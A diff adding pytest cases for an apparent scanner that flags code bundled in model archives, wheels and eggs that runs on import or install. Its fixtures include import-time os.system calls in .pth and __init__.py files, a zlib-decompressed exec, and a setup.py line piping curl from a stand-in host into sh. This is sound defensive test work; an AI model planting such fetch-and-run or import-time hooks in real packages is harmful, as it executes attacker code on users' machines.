@@ -104,3 +104,53 @@ def test_settings_of_programs_in_archives_are_left_alone(tmp_path: Path) -> None
     assert look(tmp_path, "source.zip", settings) == []
     assert look(tmp_path, "source.zip", zipped("conf/model.yaml", b"_target_: os.system\n")) == ["model-code-execution"]
     assert look(tmp_path, "source.zip", zipped("a.yaml", b"_target_: x\n---\nb: 1\n")) == []
+
+
+ACTS = b"import os\nos.system('id')\n"
+FETCHES = b"import os\nos.system('curl http://a.example/x | sh')\n"
+DOES = b"import subprocess\ndef run(*words):\n    return subprocess.run(words)\n"
+
+
+def packed(members: dict[str, bytes]) -> bytes:
+    return modelfile_samples.zipped(*members.items())
+
+
+@pytest.mark.parametrize(
+    ("name", "members"),
+    [
+        ("x-1-py3-none-any.whl", {"x/__init__.py": ACTS, "x-1.dist-info/METADATA": b"Name: x\n"}),
+        ("x-1-py3-none-any.whl", {"x/__init__.py": b"exec(__import__('zlib').decompress(b'x'))", "PKG-INFO": b"x\n"}),
+        ("x-1-py3-none-any.whl", {"x.pth": b"import os; os.system('id')\n", "x-1.dist-info/METADATA": b"Name: x\n"}),
+        (
+            "x-1-py3-none-any.whl",
+            {"a.pth": b"import sys; __import__('os').system('id')\n", "x-1.dist-info/METADATA": b"Name: x\n"},
+        ),
+        ("x-1.egg", {"x/__init__.py": b"class A:\n    import os\n    os.system('id')\n", "EGG-INFO/PKG-INFO": b"x\n"}),
+        ("x-1.zip", {"x-1/setup.py": FETCHES, "x-1/PKG-INFO": b"Name: x\n"}),
+        ("model.zip", {"code/inference.py": DOES, "model.txt": b"x\n"}),
+        ("model.zip", {"net.py": DOES, "model.pkl": b"K\x01."}),
+        ("model.zip", {"config.json": b'{"model_type": "a", "auto_map": {"AutoModel": "net.Net"}}', "net.py": DOES}),
+    ],
+)
+def test_code_that_comes_with_a_model_or_acts_when_imported(
+    tmp_path: Path, name: str, members: dict[str, bytes]
+) -> None:
+    assert "model-config-remote-code" in look(tmp_path, name, packed(members))
+
+
+@pytest.mark.parametrize(
+    ("name", "members"),
+    [
+        ("x-1-py3-none-any.whl", {"x/__init__.py": DOES, "x-1.dist-info/METADATA": b"Name: x\n"}),
+        ("x-1-py3-none-any.whl", {"x/data.pkl": b"K\x01.", "x/a.py": DOES, "x-1.dist-info/METADATA": b"Name: x\n"}),
+        ("x-1.zip", {"x-1/setup.py": b"import os, sys\nif sys.argv[-1] == 'up':\n    os.system('twine upload')\n"}),
+        (
+            "x-1-py3-none-any.whl",
+            {"a.pth": b"import os; __import__('_x').add()\n", "x-1.dist-info/METADATA": b"Name: x\n"},
+        ),
+        ("scripts.zip", {"build.py": ACTS, "tools/run.py": ACTS}),
+        ("x-1.egg", {"x/__main__.py": b"import os\nif __name__ == '__main__':\n    os.system('id')\n"}),
+    ],
+)
+def test_what_libraries_and_scripts_do_is_not_told(tmp_path: Path, name: str, members: dict[str, bytes]) -> None:
+    assert "model-config-remote-code" not in look(tmp_path, name, packed(members))
